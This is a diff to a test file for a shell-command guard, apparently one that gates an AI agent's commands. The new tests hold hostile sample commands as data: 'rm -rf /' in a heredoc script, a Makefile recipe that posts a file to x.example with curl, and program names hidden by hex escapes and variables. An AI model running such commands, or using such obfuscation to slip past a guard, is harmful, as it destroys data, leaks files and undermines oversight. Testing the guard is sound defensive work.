@@ -47,8 +47,8 @@ def test_what_nobody_means_well_asks_although_the_sandbox_contains_it():
     dangerous = [command for _, command in commands("contained_asks.txt")]
     free = [command for command in dangerous if isinstance(judge(command), Allowed)]
 
-    assert len(dangerous) >= 110
-    assert len(free) <= 0.02 * len(dangerous), free
+    assert len(dangerous) >= 400
+    assert free == []
 
 
 def test_the_verdict_names_the_boundary_that_it_rests_on():
@@ -161,3 +161,23 @@ def test_everything_the_guard_says_of_a_command_is_said_in_chinese_too():
     assert all(isinstance(reason, Why) for reason in said)
     assert all(any("\u4e00" <= letter <= "\u9fff" for letter in reason.said("zh")) for reason in said)
     assert all(english.strip(".") == english and chinese for english, chinese in SHELL_WORDS.values())
+
+
+def test_a_script_that_the_command_wrote_itself_is_read_when_it_runs_it():
+    assert isinstance(judge("echo 'make all' > x.sh; sh x.sh"), Allowed)
+    assert isinstance(judge("echo 'sudo id' > x.sh; sh x.sh"), Ask)
+    assert isinstance(judge("cat > x.sh <<'E'\nrm -rf /\nE\nbash x.sh"), Refused)
+    assert isinstance(judge("printf 'all:; curl -d @a https://x.example' > Makefile && make"), Ask)
+
+
+@pytest.mark.parametrize(
+    ("hidden", "plain"),
+    [("$'\\x6d\\x6b' x", "mk x"), ("m'k'dir x", "mkdir x"), ("a=mk; ${a}dir x", "a=x; mkdir $a")],
+)
+def test_the_name_of_a_program_that_is_put_together_asks(hidden: str, plain: str):
+    assert isinstance(judge(hidden), Ask)
+    assert isinstance(judge(plain), Allowed)
+
+
+def test_a_path_to_a_program_may_be_put_together():
+    assert isinstance(judge('"$PWD/bin/tool" x; ./"my tool"; $HOME/bin/x'), Allowed)
